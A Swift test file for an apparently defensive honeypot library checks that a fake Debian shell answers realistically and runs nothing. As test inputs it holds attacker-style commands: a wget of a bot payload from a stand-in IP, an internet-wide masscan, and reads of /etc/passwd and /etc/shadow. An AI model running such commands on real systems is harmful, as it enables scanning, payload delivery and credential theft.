import Foundation
import PalisadeHoneypot
import Testing

/// The fake shell answers like bash on Debian and runs nothing.
struct FakeShellTests {
    @Test func commandsPipelinesAndFilesAnswerLikeDebian() {
        var shell = FakeShell(user: "root")
        #expect(shell.prompt == "root@srv-db01:~# ")
        #expect(shell.run("id").output == "uid=0(root) gid=0(root) groups=0(root)\n")
        #expect(shell.run("cat /etc/passwd | grep www").output == "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n")
        #expect(shell.run("grep -c root /etc/passwd; grep sshd /etc/passwd").output.contains("sshd:x:104"))
        #expect(shell.run("cat /etc/passwd | wc -l").output == "8\n")
        #expect(shell.run("head -n 1 /etc/passwd").output == "root:x:0:0:root:/root:/bin/bash\n")
        #expect(shell.run("cat /etc/shadow").output == "cat: /etc/shadow: No such file or directory\n")
        #expect(shell.run("echo hello > /tmp/x").output == "", "redirected output is not shown")
        #expect(shell.run("cd /var/log; pwd").output == "/var/log\n")
        #expect(shell.prompt == "root@srv-db01:/var/log# ")
        #expect(shell.run("masscan -p22 0.0.0.0/0").output == "-bash: masscan: command not found\n")
        #expect(shell.run("wget http://203.0.113.9/bot").output.contains("unable to resolve host address"))
        #expect(shell.run("exit").exits)
        #expect(shell.history.count == 11)
        var user = FakeShell(user: "admin")
        #expect(user.prompt == "admin@srv-db01:~$ " && user.run("whoami").output == "admin\n")
    }

    @Test func theFilesystemComesFromTheProfile() {
        var shell = FakeShell(user: "root")
        #expect(shell.run("ls /").output.hasPrefix("bin  boot  dev  etc  home"))
        #expect(shell.run("ls /home").output == "admin\n")
        #expect(shell.run("cat /etc/issue").output == "Debian GNU/Linux 12 \\n \\l\n\n")
        #expect(shell.run("cat /etc/os-release").output.hasPrefix("PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\""))
        #expect(shell.run("cd /etc/ssh; cat sshd_config").output.contains("UsePAM yes"))
        #expect(shell.run("cd ../..; pwd").output == "/\n")
        #expect(shell.run("cd /nowhere").output == "-bash: cd: /nowhere: No such file or directory\n")
        #expect(shell.run("cat /etc").output == "cat: /etc: Is a directory\n")
        #expect(shell.run("uname -r").output == "6.1.0-28-amd64\n")
    }

    @Test func aProfileFileChangesWhatItNamesAndKeepsTheRest() throws {
        let json = """
            {"hostname": "web-07", "users": [{"name": "root", "uid": 0, "home": "/root"}, {"name": "deploy", "uid": 1001, "home": "/home/deploy"}],
             "files": {"/etc/motd": "Authorized use only\\n", "/home/deploy/.env": "DB_PASSWORD=canary-4711\\n", "/opt/app/config.yml": "port: 8080\\n"}}
            """
        let profile = try JSONDecoder().decode(FakeShell.Profile.self, from: Data(json.utf8))
        var shell = FakeShell(user: "deploy", profile: profile)
        #expect(shell.prompt == "deploy@web-07:~$ ")
        #expect(shell.run("cat /etc/passwd").output == "root:x:0:0::/root:/bin/bash\ndeploy:x:1001:1001::/home/deploy:/bin/bash\n")
        #expect(shell.run("cat .env").output == "DB_PASSWORD=canary-4711\n" && shell.run("ls /opt").output == "app\n")
        #expect(shell.run("cat /etc/motd").output == "Authorized use only\n" && shell.run("cat /proc/meminfo").output.hasPrefix("MemTotal:"))
        #expect(profile.kernel == FakeShell.Profile.debian12.kernel, "what the file does not name stays Debian's")
        #expect(throws: DecodingError.self) { try JSONDecoder().decode(FakeShell.Profile.self, from: Data(#"{"files": {"etc/x": ""}}"#.utf8)) }
    }
}
